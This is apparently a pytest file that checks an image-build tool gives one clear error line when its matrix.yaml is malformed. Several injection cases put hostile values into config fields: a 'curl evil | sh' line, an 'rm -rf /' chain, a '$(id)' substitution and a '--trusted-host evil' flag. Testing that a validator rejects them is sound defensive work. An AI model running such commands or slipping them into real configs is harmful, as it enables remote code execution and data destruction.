"""Every malformed matrix gets one line naming file:line and key, exit code 2, and no traceback."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from ..conftest import MATRIX, imgbuild


def line_of(text: str) -> int:
    """The line of matrix.yaml where `text` starts, so the tests follow edits to the file."""
    before = MATRIX.read_text().split(text)[0]
    return before.count("\n") + 1


def assert_one_line_error(path: Path, *expected: str, args: tuple[str, ...] = ()) -> str:
    result = imgbuild("matrix", "--matrix", str(path), *args)
    assert result.returncode == 2, f"exit code {result.returncode}, stderr: {result.stderr}"
    assert "Traceback" not in result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, f"expected one line, got: {result.stderr}"
    for part in expected:
        assert part in lines[0], f"{part!r} not in {lines[0]!r}"
    return lines[0]


PYTHON_311 = '    python: "3.11"'
NAME = "  name: pytorch-cuda"

# (what is broken, old text, new text, parts the message must hold)
CASES = [
    ("yaml syntax", "  name: pytorch-cuda\n", "  name: [pytorch-cuda\n",
     (f":{line_of(NAME) + 1}: YAML syntax error", f"flow sequence started at line {line_of(NAME)}")),
    ("unknown key", '    python: "3.11"\n', '    pythn: "3.11"\n',
     (f":{line_of(PYTHON_311)}:", "os.debian12.pythn: unknown key 'pythn'; did you mean 'python'?")),
    ("wrong type", 'source_date_epoch: 1735689600', 'source_date_epoch: "soon"',
     ("source_date_epoch: expected an integer",)),
    ("unquoted version", '    python: "3.11"\n', "    python: 3.11\n",
     ("os.debian12.python: expected a string, got a number (3.11); quote it",)),
    ("duplicate key", "  ubuntu24.04:\n    base: ubuntu:24.04\n",
     "  ubuntu24.04:\n    base: ubuntu:24.04\n    base: ubuntu:24.10\n",
     ("os.ubuntu24.04.base: duplicate key (first at line",)),
    ("axis value without facts", 'cuda: ["11.8", "12.4", "12.6", "12.8"]',
     'cuda: ["11.8", "12.4", "12.6", "12.8", "12.9"]',
     ("axes.cuda[4]: cuda '12.9' has no facts: add it under 'cuda:'",)),
    ("alias naming no image", "v2.7: {pytorch: \"2.7\", flavor: jupyter}",
     "v2.7: {pytorch: \"2.7\", flavor: devel}",
     ("image.aliases.v2.7: alias 'v2.7' names no image", "excluded in matrix.yaml")),
    ("two images one tag", 'tag: "{torch}-cuda{cuda}-cudnn{cudnn_major}-{os}-{flavor}"',
     'tag: "{torch}-cuda{cuda}-{flavor}"', ("two images get the tag", "tag template")),
    ("undefined wheel", '"12.8": {wheel: cu128}\n  2.7.1:', '"12.8": {wheel: cu129}\n  2.7.1:',
     ("wheel variant 'cu129' is not defined under 'wheels:'",)),
    ("newline injection", "    base: debian:12\n", '    base: "debian:12\\nRUN curl evil | sh"\n',
     ("os.debian12.base: invalid image reference",)),
    ("space injection", "    suite: bookworm\n", '    suite: "bookworm && rm -rf /"\n',
     ("os.debian12.suite: invalid suite",)),
    ("shell metacharacters", "  name: pytorch-cuda\n", "  name: pytorch-cuda$(id)\n",
     ("image.name: invalid image name",)),
    ("index url injection", "    index: https://download.pytorch.org/whl/cu118\n",
     "    index: 'https://download.pytorch.org/whl/cu118 --trusted-host evil'\n",
     ("wheels.cu118.index: invalid index URL",)),
    ("note with quotes", "x-no-cu124: &no_cu124 >-", 'x-no-cu124: &no_cu124 "say \\"hi\\""\nx-old: >-',
     ("note (one line, no quotes or $)",)),
    ("missing key", '    glibc: "2.36"\n', "", ("os.debian12: missing key 'glibc'",)),
    ("unknown flavour", "flavor: [runtime, devel, jupyter]", "flavor: [runtime, devel, jupyterlab]",
     ("unknown flavour 'jupyterlab'",)),
]


@pytest.mark.parametrize(("old", "new", "expected"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_malformed_matrix_is_one_clear_line(broken_matrix: Callable[[str, str], Path], old: str, new: str,
                                            expected: tuple[str, ...]) -> None:
    path = broken_matrix(old, new)
    line = assert_one_line_error(path, *expected)
    assert line.startswith(f"imgbuild: error: {path}")


def test_missing_file(tmp_path: Path) -> None:
    assert_one_line_error(tmp_path / "nope.yaml", "nope.yaml: no such file; pass --matrix FILE or set IMGBUILD_MATRIX")


def test_unreadable_file(tmp_path: Path) -> None:
    path = tmp_path / "matrix.yaml"
    path.write_bytes(b"\xff\xfe not utf-8")
    assert_one_line_error(path, "matrix.yaml: cannot read")


def test_empty_file(tmp_path: Path) -> None:
    path = tmp_path / "matrix.yaml"
    path.write_text("# nothing\n")
    assert_one_line_error(path, "matrix.yaml:1: the file is empty")


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("--cuda", "13.5"), "no CUDA 13.5 in matrix.yaml; available: 11.8, 12.4, 12.6, 12.8"),
        (("--pytorch", "2.6"), "no PyTorch 2.6 in matrix.yaml; available: 2.7.0, 2.7.1"),
        (("--os", "ubuntu20.04"), "no OS ubuntu20.04 in matrix.yaml; available: ubuntu22.04, ubuntu24.04, "
         "ubuntu26.04, debian12, debian13"),
        (("--flavor", "devel", "--os", "debian12"), "no image matches: debian12 cuda12.6 torch2.7.1 devel: excluded"),
        (("--variant", "2.7.1-cu126-debian12-runtme"), "did you mean '2.7.1-cu126-debian12-runtime'?"),
        # nothing close among 62 names: where to see them, not a line of 3,000 characters
        (("--variant", "nope"), "no variant 'nope' in matrix.yaml; `imgbuild matrix --all` lists its 62 images "
         "with their tags"),
    ],
)
def test_filter_that_selects_nothing_lists_what_exists(args: tuple[str, ...], message: str) -> None:
    result = imgbuild("matrix", *args)
    assert result.returncode == 2
    assert result.stderr.strip() == f"imgbuild: error: {message}" or message in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1


def test_debug_shows_the_traceback(tmp_path: Path) -> None:
    result = imgbuild("--debug", "matrix", "--matrix", str(tmp_path / "nope.yaml"))
    assert result.returncode != 0
    assert "Traceback" in result.stderr and "UserError" in result.stderr


def test_matrix_env_variable_names_the_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("IMGBUILD_MATRIX", str(tmp_path / "from-env.yaml"))
    result = imgbuild("matrix")
    assert result.returncode == 2 and "from-env.yaml: no such file" in result.stderr
